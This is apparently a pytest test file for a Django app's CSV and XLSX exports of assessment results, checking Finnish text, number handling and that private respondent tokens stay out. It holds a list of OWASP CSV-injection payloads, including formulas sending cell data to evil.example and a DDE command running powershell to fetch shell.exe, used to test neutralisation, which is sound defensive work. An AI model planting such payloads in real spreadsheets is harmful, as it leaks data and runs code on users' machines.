"""Exports: one row per assessment, figures from the stored result, Finnish intact, no formulas,
and no respondent's private link."""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from assessments.consultant import exports
from assessments.models import Assessment

from ..factories import answered_assessment

pytestmark = pytest.mark.django_db

ID = "Assessment ID"


def value_for(question):
    # Every fourth question "don't know", the others spread over 1…5.
    return None if question.order % 4 == 0 else 1 + (question.order + question.area.order) % 5


def rows_by_id(dataset):
    return {
        row[dataset.headers.index(ID)]: dict(zip(dataset.headers, row, strict=True))
        for row in dataset
    }


def csv_text(assessments=None):
    content = exports.export(assessments or Assessment.objects.all(), exports.CSV)
    return content.decode("utf-8-sig")


def xlsx_sheet(assessments=None):
    content = exports.export(assessments or Assessment.objects.all(), exports.XLSX)
    return openpyxl.load_workbook(io.BytesIO(content)).active


@pytest.fixture
def english(settings):
    from django.utils import translation

    with translation.override("en"):
        yield


def test_columns_and_values_match_the_stored_result(questionnaire, english):
    assessment = answered_assessment(
        questionnaire,
        value_for,
        organisation="Äänekosken Sähkö Oy",
        email="öljy@example.com",
        consent_to_contact=True,
    )
    unfinished = answered_assessment(questionnaire, complete=False)

    dataset = exports.build_dataset(Assessment.objects.all())

    rows = rows_by_id(dataset)
    assert set(rows) == {assessment.pk, unfinished.pk}
    row = rows[assessment.pk]
    result = assessment.stored_result
    assert row["Organisation"] == "Äänekosken Sähkö Oy"
    assert row["Email"] == "öljy@example.com"
    assert row["Overall score"] == result.overall_score
    assert row["Overall level"] == result.overall_level
    for area in result.areas:
        assert row[f"{area.code}: score"] == area.score
        assert row[f"{area.code}: coverage %"] == round(area.coverage * 100, 1)
        assert row[f"{area.code}: level"] == area.level
        assert row[f"{area.code}: don't know"] == area.dont_know
    answers = {a.question.code: a.value for a in assessment.answers.select_related("option")}
    assert any(value is None for value in answers.values())
    for code, value in answers.items():
        assert row[code] == ("" if value is None else value)
    # An unfinished test has no result: its figures stay empty.
    assert rows[unfinished.pk]["Overall score"] == ""


def test_no_export_carries_a_respondents_token(questionnaire, english):
    # The token is the respondent's private link: whoever holds it can read the results or, while
    # the test is in progress, change the answers. A spreadsheet travels; the token stays home.
    completed = answered_assessment(questionnaire)
    unfinished = answered_assessment(questionnaire, complete=False)

    text = csv_text()
    cells = [str(cell.value) for row in xlsx_sheet().iter_rows() for cell in row]

    for assessment in (completed, unfinished):
        assert assessment.token not in text
        assert not any(assessment.token in cell for cell in cells)
        assert assessment.token[:8] not in text  # not even the lookup prefix
    assert "Token" not in exports.build_dataset(Assessment.objects.none()).headers


def test_csv_starts_with_a_byte_order_mark_and_keeps_finnish_letters(questionnaire, english):
    assessment = answered_assessment(questionnaire, organisation="Ääkköset Öy")
    content = exports.export(Assessment.objects.all(), exports.CSV)

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 2
    assert rows[1][rows[0].index(ID)] == str(assessment.pk)
    assert "Ääkköset Öy" in rows[1]


def test_csv_quotes_every_text_cell_and_leaves_numbers_bare(questionnaire, english):
    answered_assessment(questionnaire, lambda q: 4, organisation="Numerot Oy")
    header, row = csv_text().splitlines()[:2]

    assert all(cell.startswith('"') for cell in header.split(","))
    dataset = exports.build_dataset(Assessment.objects.all())
    # The reader that knows the quoting gives numbers back as numbers, text as text.
    parsed = next(
        row
        for i, row in enumerate(csv.reader(io.StringIO(csv_text()), quoting=csv.QUOTE_NONNUMERIC))
        if i == 1
    )
    values = dict(zip(dataset.headers, parsed, strict=True))
    assert values["Organisation"] == "Numerot Oy"
    assert isinstance(values["Overall score"], float)
    assert isinstance(values[ID], float)
    assert '"Numerot Oy"' in row


def test_xlsx_keeps_finnish_letters_and_numbers(questionnaire, english):
    assessment = answered_assessment(questionnaire, lambda q: 4, organisation="Öljynjalostus Äö")
    sheet = xlsx_sheet()

    headers = [cell.value for cell in sheet[1]]
    values = dict(zip(headers, [cell.value for cell in sheet[2]], strict=True))
    assert values["Organisation"] == "Öljynjalostus Äö"
    assert values[ID] == assessment.pk
    assert values["Overall score"] == assessment.stored_result.overall_score
    assert isinstance(values["Overall score"], int | float)  # a number, not text


def test_xlsx_survives_control_characters_that_the_format_cannot_hold(questionnaire, english):
    # A form lets "\x07" through; XLSX cannot store it, and one such answer must not break the
    # whole export.
    answered_assessment(questionnaire, organisation="Piip\x07 Oy")
    headers = [cell.value for cell in xlsx_sheet()[1]]
    organisation = xlsx_sheet().cell(row=2, column=headers.index("Organisation") + 1).value
    assert organisation.startswith("Piip") and organisation.endswith(" Oy")
    assert "\x07" not in organisation


# OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection), the same with the
# other separators and quotes that break out of a cell, and DDE and web functions of Excel,
# LibreOffice and Google Sheets.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example?leak="&A1&A2, "Error: please click me!")',
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "x;=1+1;",
    "x,=1+1,",
    "x\t=1+1",
    "x; =1+1",
    'x;"=1+1"',
    "x\n=1+1",
    "Oy Ab\r\n@SUM(A1:A9)",
    "\uff1d1+1",
    "-",
    "=",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells_as_a_spreadsheet_may_split_them(text, separator):
    """Every cell a spreadsheet could make of `text` with `separator`: the proper CSV reading,
    and, for a program that ignores quotes (or for quotes broken by another separator), a bare
    split at every separator and line break."""
    yield from (
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    )
    for line in re.split(r"[\r\n]", text):
        yield from (cell.lstrip(' "') for cell in line.split(separator))


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_owasp_payload_becomes_a_formula_whatever_the_separator(
    questionnaire, english, separator
):
    for payload in OWASP_PAYLOADS:
        answered_assessment(
            questionnaire, organisation=payload, email=payload, consent_to_contact=True
        )
    text = csv_text()

    formulas = [
        cell
        for cell in cells_as_a_spreadsheet_may_split_them(text, separator)
        if cell.startswith(TRIGGERS)
    ]
    assert formulas == []


def test_with_our_own_separator_each_payload_reads_back_with_only_apostrophes_added(
    questionnaire, english
):
    for payload in OWASP_PAYLOADS:
        answered_assessment(questionnaire, organisation=payload)
    rows = list(csv.reader(io.StringIO(csv_text(), newline="")))
    organisation = rows[0].index("Organisation")

    exported = sorted(row[organisation] for row in rows[1:])
    assert not any(cell.startswith(TRIGGERS) for cell in exported)
    assert sorted(cell.replace("'", "") for cell in exported) == sorted(
        payload.replace("'", "") for payload in OWASP_PAYLOADS
    )


def test_xlsx_writes_every_payload_as_plain_text(questionnaire, english):
    for payload in OWASP_PAYLOADS:
        answered_assessment(questionnaire, organisation=payload)
    sheet = xlsx_sheet()
    organisation = [cell.value for cell in sheet[1]].index("Organisation") + 1

    cells = [sheet.cell(row=row, column=organisation) for row in range(2, sheet.max_row + 1)]
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
    # As typed (XML turns a carriage return into a line feed).
    assert sorted(cell.value for cell in cells) == sorted(
        payload.replace("\r\n", "\n").replace("\r", "\n") for payload in OWASP_PAYLOADS
    )


def test_neutralise_leaves_harmless_values_alone():
    assert exports.neutralise("Oy Ab") == "Oy Ab"
    assert exports.neutralise("Meikäläinen & Co, Helsinki") == "Meikäläinen & Co, Helsinki"
    assert exports.neutralise("a-b@example.com") == "a-b@example.com"
    assert exports.neutralise("=x") == "'=x"
    assert exports.neutralise("x;=1+1;") == "x;'=1+1;"


def test_the_admin_exports_the_filtered_list(superuser_client, questionnaire):
    consenting = answered_assessment(
        questionnaire, organisation="Lupa Oy", email="a@example.com", consent_to_contact=True
    )
    answered_assessment(questionnaire, organisation="Ei lupaa Oy")
    client = superuser_client

    url = reverse("admin:assessments_assessment_export", args=["xlsx"])
    response = client.get(url, {"consent_to_contact__exact": "1"})

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [consenting.pk]


def test_the_admin_exports_the_selected_assessments(superuser_client, questionnaire):
    chosen = answered_assessment(questionnaire, organisation="Valittu Oy")
    answered_assessment(questionnaire, organisation="Muu Oy")
    client = superuser_client

    response = client.post(
        reverse("admin:assessments_assessment_changelist"),
        {"action": "export_csv", "_selected_action": [chosen.pk]},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "Valittu Oy" in text
    assert "Muu Oy" not in text
